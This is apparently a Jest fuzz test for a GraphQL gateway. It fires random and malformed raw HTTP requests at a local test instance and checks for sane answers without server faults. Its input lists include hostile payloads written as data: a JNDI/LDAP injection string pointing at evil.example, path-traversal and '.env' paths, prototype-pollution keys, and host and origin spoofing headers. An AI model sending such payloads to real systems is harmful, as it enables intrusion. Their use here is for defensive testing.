import { afterEach, describe, expect, it } from '@jest/globals';
import { createSchema, readSdl } from '../../../src/graphql/schema.ts';
import {
  addAssignmentMutation,
  addMutation,
  deleteMutation,
  everything,
  listQuery,
  partnerQuery,
  updateMutation,
} from '../../support/documents.ts';
import { type RawAnswer, sendRaw } from '../../support/rawConnection.ts';
import { useStages } from '../../support/stages.ts';
import { timeLimitMs, volumeOf } from '../volume.ts';
import { findAnswerProblem } from './judgeAnswer.ts';
import { built, type Choices, playRandomCases } from './randomCases.ts';
import { type RandomOperation, randomOperation } from './randomOperation.ts';
import { cutUp, knownIds, randomJunk, randomText, words } from './randomValues.ts';

/** A request as bytes. */
interface RandomRequest {
  readonly bytes: Buffer;
  /** Whether it is HTTP, whatever it asks for; of anything else only some answer or a closed connection is expected. */
  readonly isHttp: boolean;
  readonly method: string;
}

const good = '{"query":"{ complianceManagementPartners { totalCount } }"}';

const contentTypes = [
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  '',
  'application/json; charset="',
  'multipart/form-data; boundary=x',
  'multipart/mixed; boundary="-"',
  'application/json, text/plain',
  ...words(`
    application/json application/json;charset=iso-8859-1 APPLICATION/JSON application/graphql+json
    application/x-www-form-urlencoded multipart/form-data text/plain text/html / ; json */*`),
];

const methods = words('POST GET PUT PATCH DELETE OPTIONS HEAD TRACE PROPFIND QUERY LOCK SEARCH');

const paths = words(`
  /graphql /graphql?query=%7B__typename%7D /graphql?query={__typename} /graphql?query=%E0%A4%A
  /graphql?query=%00 /graphql?query=a&query=b&variables=%7B&extensions=[]
  /graphql?query=mutation%7BdeleteComplianceManagementPartner(input:%7Bid:%22a%22%7D)%7BuserErrors%7Bcode%7D%7D%7D
  /graphql?__proto__[query]=x&constructor.prototype=y /graphql/ /GraphQL /graphql%2f..%2f
  /graphql;a=b //graphql /./graphql /../graphql /%2e%2e/graphql /% /%zz /%c0%ae /schema.graphql
  /livez /readyz?x /metrics /.env /favicon.ico /__proto__ http://127.0.0.1/graphql
  http://[::1/graphql * /?x`);

/** Names and values of headers, line by line. */
const odd = `
  accept: text/event-stream|accept: ;;;q=,|accept: application/json;q=0|accept-encoding: gzip;q=1.0, br
  accept: multipart/mixed; deferSpec=20220824|content-encoding: gzip|content-encoding: identity
  expect: 200-maybe|expect: 100-continue|cookie: __proto__=x; a=b|origin: null
  origin: https://evil.example|prefer: wait=0|prefer: wait=99999999999999
  prefer: wait=-1, return=minimal;;|client-request-id: a b\tc|client-request-id: ${'x'.repeat(500)}
  traceparent: 00-00000000000000000000000000000000-0000000000000000-00|traceparent: ff-zz
  tracestate: ${'x'.repeat(600)}|authorization: Bearer|authorization: Basic YTpi
  authorization: Bearer ${'a'.repeat(5_000)}|authorization: Bearer \u00fc|host: evil.example
  x-forwarded-for: 127.0.0.1, unknown|x-forwarded-host: evil.example|content-type: text/plain
  x-http-method-override: DELETE|apollo-require-preflight: |x-apollo-operation-name: \u00ff
  apollographql-client-name: \u0024{jndi:ldap://evil.example/a}|__proto__: x|constructor: x
  range: bytes=0-|if-none-match: *|max-forwards: 0|te: trailers|upgrade-insecure-requests: 1`
  .trim()
  .split(/\n *|\|/);

function requestOf(
  method: string,
  path: string,
  headers: readonly string[],
  body: string | Buffer,
) {
  const bytes = Buffer.from(body);
  const fixed = ['host: 127.0.0.1', 'connection: close', `content-length: ${bytes.length}`];
  const head = [`${method} ${path} HTTP/1.1`, ...fixed, ...headers, '', ''].join('\r\n');
  return { bytes: Buffer.concat([Buffer.from(head, 'latin1'), bytes]), isHttp: true, method };
}

const authorization = 'authorization: Bearer embedded-graph-token';

/** Draws a request: bytes, broken JSON, odd types and headers, any method, path and query; some are no HTTP at all. */
function randomRequest(choices: Choices): RandomRequest {
  const method = choices.chance(65) ? 'POST' : choices.pick(methods);
  const path = choices.chance(60) ? '/graphql' : choices.pick(paths);
  const body = randomBody(choices);
  const type = choices.chance(60) ? 'application/json' : choices.pick(contentTypes);
  const headers = [
    ...(choices.chance(90) ? [`content-type: ${type}`] : []),
    ...(choices.chance(70) ? [authorization] : []),
    ...choices.some(4, () => choices.pick(odd)),
  ];
  const request = requestOf(method, path, headers, body);
  return choices.chance(8)
    ? { bytes: cutBytes(request.bytes, choices), isHttp: false, method }
    : request;
}

function randomBody(choices: Choices): Buffer | string {
  const make = choices.pick<() => Buffer | string>([
    () => '',
    () => Buffer.from(choices.some(60, () => choices.below(256))),
    () => randomText(choices),
    () => randomJunk({ kind: 'json' }, choices),
    () => cutBytes(Buffer.from(good), choices),
    () => `[${good},${good}]`,
    () => `\ufeff${good}`,
    () => Buffer.from(good, choices.pick(['utf16le', 'latin1', 'utf8'])),
    () =>
      choices.pick([
        '['.repeat(choices.below(20_000)),
        `{"query":"{ __typename }","variables":${'{"a":'.repeat(choices.below(5_000))}1}`,
        `{"query":"${'x'.repeat(choices.below(65_536))}"}`,
        '{"query":"{ __typename }","query":"{ nothing }"}',
        '{"__proto__":{"query":"{ __typename }"}}',
        '{"query":null,"variables":{},"extensions":{"persistedQuery":{"version":1,"sha256Hash":"00"}}}',
        '{"query":{"kind":"Document"},"variables":[1]}',
        '{"query":"{ __typename }","variables":"{}","operationName":7,"extensions":null}',
        '--x\r\ncontent-disposition: form-data; name="operations"\r\n\r\n{}\r\n--x--',
        'query=%7B__typename%7D&variables=%7B%7D',
      ]),
    () => good,
  ]);
  return make();
}

/** Takes bytes out and puts others in. */
function cutBytes(bytes: Buffer, choices: Choices): Buffer {
  const at = choices.below(Math.min(65_536, bytes.length + 1));
  const put = Buffer.from(choices.some(4, () => choices.below(256)));
  return Buffer.concat([bytes.subarray(0, at), put, bytes.subarray(at + choices.below(8))]);
}

const schema = createSchema(readSdl());
const goodDocuments = [
  addAssignmentMutation,
  addMutation,
  deleteMutation,
  updateMutation,
  listQuery,
  partnerQuery,
];

/** Draws an operation: over the schema, a text that was cut up, or rubbish. */
function drawOperation(choices: Choices): RandomOperation {
  const lot = choices.below(100);
  if (lot >= 96) {
    return { query: randomText(choices) };
  }
  const operation = randomOperation(schema, choices, true);
  const text = choices.chance(50) ? operation.query : choices.pick(goodDocuments);
  return lot >= 72 ? { ...operation, query: cutUp(text, choices) } : operation;
}

const accepted = ['application/json', 'application/graphql-response+json', '*/*', 'text/html', ''];
const memberNames = ['query', 'variables', 'operationName', 'extensions', '__proto__', 'http'];

/** Draws a request that HTTP itself finds nothing wrong with. */
function operationRequest(choices: Choices): RandomRequest {
  const { query, variables = '{}', operationName } = drawOperation(choices);
  const accept = choices.chance(10) ? [`accept: ${choices.pick(accepted)}`] : [];
  if (choices.chance(8)) {
    const search = new URLSearchParams({
      query: query.slice(0, 4_000),
      variables: variables.slice(0, 2_000),
      ...(operationName !== undefined && { operationName }),
    });
    const headers = [authorization, ...accept, 'apollo-require-preflight: yes'];
    return requestOf('GET', `/graphql?${search}`, headers, '');
  }
  const members = [`"query":${JSON.stringify(query)}`, `"variables":${variables}`];
  if (operationName !== undefined) {
    members.push(`"operationName":${JSON.stringify(operationName)}`);
  }
  if (choices.chance(4)) {
    members.push(`"${choices.pick(memberNames)}":${randomJunk({ kind: 'json' }, choices)}`);
  }
  const headers = [authorization, ...accept, 'content-type: application/json'];
  return requestOf('POST', '/graphql', headers, `{${members}}`);
}

/** Pages of their own, which are no GraphQL. */
const otherPages = /^\{"status":"(alive|running)"\}$|type ComplianceManagementPartner/;

function problemOf({ isHttp, method }: RandomRequest, answer: RawAnswer | undefined) {
  if (answer === undefined) {
    return isHttp ? 'it is no answer' : undefined;
  }
  const { status, headers, text } = answer;
  if (status >= 500) {
    return `it is a ${status}`;
  }
  const isOfGraphql = method !== 'HEAD' && isHttp && !(status === 200 && otherPages.test(text));
  const contentType = headers['content-type']?.join();
  return isOfGraphql ? findAnswerProblem({ status, contentType, text }) : undefined;
}

const everyRow = `{ complianceManagementPartners(first: 1000) { nodes { ...Everything revision } totalCount } } ${everything}`;

describe('generated requests', () => {
  const { embedded } = useStages(afterEach);

  it.each([
    ['bytes', volumeOf(10_000), built(120, randomRequest)],
    ['operations', volumeOf(4_000), built(400, operationRequest)],
  ] as const)(
    'of %s all have an answer that a caller can rely on, and none is a fault of the gateway',
    async (_what, count, cases) => {
      const seed = knownIds.map((id) => ({ id, displayName: id }));
      const options = { NODE_ENV: 'production', INTROSPECTION: 'true', LOG_LEVEL: 'info' };
      const { gateway } = await embedded({ seed, recordRequests: false }, options);
      const isFault = (line: string) => /"level":"?(50|60|error|fatal)/.test(line);
      const played = await playRandomCases({
        count,
        cases,
        atOnce: 40,
        async play(requests) {
          const linesBefore = gateway.logLines.length;
          const answers = await Promise.all(
            requests.map(({ bytes, isHttp }) => sendRaw(gateway.url, bytes, !isHttp)),
          );
          const problems = requests.flatMap((one, index) => {
            const problem = problemOf(one, answers[index]);
            const sent = JSON.stringify(one.bytes.toString('latin1').slice(0, 1_500));
            const seen = JSON.stringify(answers[index])?.slice(0, 500);
            return problem === undefined ? [] : [`${problem}: ${seen} to ${sent}`];
          });
          const faults = gateway.logLines.slice(linesBefore).filter(isFault);
          // All that was written can be read.
          const { result, text } = await gateway.run(everyRow);
          return [...problems, ...faults, ...(result.errors === undefined ? [] : [text])];
        },
      });
      expect(played).toBeGreaterThanOrEqual(count);
    },
    timeLimitMs(volumeOf(10_000)),
  );
});
